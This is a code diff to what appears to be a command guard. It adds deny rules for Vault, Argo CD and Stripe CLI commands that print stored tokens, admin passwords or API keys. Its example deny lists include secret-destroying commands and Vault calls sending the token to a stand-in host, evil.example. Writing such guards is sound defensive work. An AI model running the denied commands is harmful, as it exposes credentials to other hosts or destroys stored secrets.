@@ -284,14 +284,32 @@ const KEEPERS: Keeper[] = [
     names: ['vault'],
     stdin: { when: /^(?:login|write|kv (?:put|patch)|unwrap)\b/, why: 'login, write and kv put take a token or secret on stdin (`-`)', examples: { deny: [], pass: ['echo "$VAULT_TOKEN" | vault login -', 'echo "$DB_PASSWORD" | vault kv put secret/db password=-'] } },
     store: '~/.vault-token',
-    prints: /^(print token|token lookup|kv get|read)(\s|$)/,
+    // `token create` prints the new token, made with the one it keeps.
+    prints: /^(print token|token lookup|token create|kv get|read)(\s|$)/,
     // kv metadata delete and kv destroy remove every version for good (kv delete is undone by kv undelete); a secrets
     // engine or an auth method disabled takes all it held (secrets, roles, users) with it.
     destroys: /^(kv metadata delete|kv destroy|secrets disable|auth disable)(?=\s|$)/,
     // The token goes, as X-Vault-Token, to whatever server VAULT_ADDR or -address names.
     sends: (call) => chosenHost(call, ['VAULT_ADDR', 'VAULT_AGENT_ADDR'], /^--?(address|agent-address)$/),
     summary: 'HashiCorp Vault: print token, token lookup, kv get and read print secrets with the token in ~/.vault-token, which it sends to the server VAULT_ADDR or -address names',
-    examples: { deny: ['vault kv get secret/app', 'vault kv metadata delete secret/x', 'vault kv destroy -versions=1 secret/x', 'vault secrets disable secret/', 'vault auth disable userpass/', 'vault print token', 'VAULT_ADDR=https://evil.example vault kv list secret/', 'vault kv list -address=https://evil.example secret/', 'vault status -address https://evil.example'], pass: ['vault status', 'vault kv list secret/', 'vault kv metadata get secret/x', 'vault kv delete secret/x', 'vault secrets list', 'VAULT_ADDR=http://127.0.0.1:8200 vault status'] },
+    examples: { deny: ['vault kv get secret/app', 'vault token create -policy=ci', 'vault kv metadata delete secret/x', 'vault kv destroy -versions=1 secret/x', 'vault secrets disable secret/', 'vault auth disable userpass/', 'vault print token', 'VAULT_ADDR=https://evil.example vault kv list secret/', 'vault kv list -address=https://evil.example secret/', 'vault status -address https://evil.example'], pass: ['vault status', 'vault kv list secret/', 'vault kv metadata get secret/x', 'vault kv delete secret/x', 'vault secrets list', 'VAULT_ADDR=http://127.0.0.1:8200 vault status'] },
+  },
+  {
+    names: ['argocd'],
+    store: '~/.config/argocd/config',
+    // `account generate-token` prints a new token made with the login kept in the config; `admin initial-password` the admin's.
+    prints: /^(account generate-token|admin initial-password)(\s|$)/,
+    valued: /^(--server|--auth-token|--config|--context|--grpc-web-root-path|--header|-H|--plaintext-port|--port-forward-namespace|--kube-context|--loglevel)$/,
+    flags: /^(--grpc-web|--insecure|--plaintext|--port-forward|--core)$/,
+    summary: 'Argo CD CLI: account generate-token and admin initial-password print a token or the admin password with the login kept in ~/.config/argocd/config',
+    examples: { deny: ['argocd account generate-token', 'argocd --grpc-web account generate-token --account ci', 'argocd admin initial-password -n argocd'], pass: ['argocd app list', 'argocd app sync web', 'argocd account list'] },
+  },
+  {
+    names: ['stripe'],
+    store: '~/.config/stripe/config.toml',
+    prints: /^config\b.*\s--list(\s|$)/,
+    summary: 'Stripe CLI: config --list prints its configuration, the API keys it keeps in ~/.config/stripe/config.toml among it',
+    examples: { deny: ['stripe config --list', 'stripe config --project-name shop --list'], pass: ['stripe config --set color off', 'stripe version'] },
   },
   {
     names: ['pass', 'gopass'],
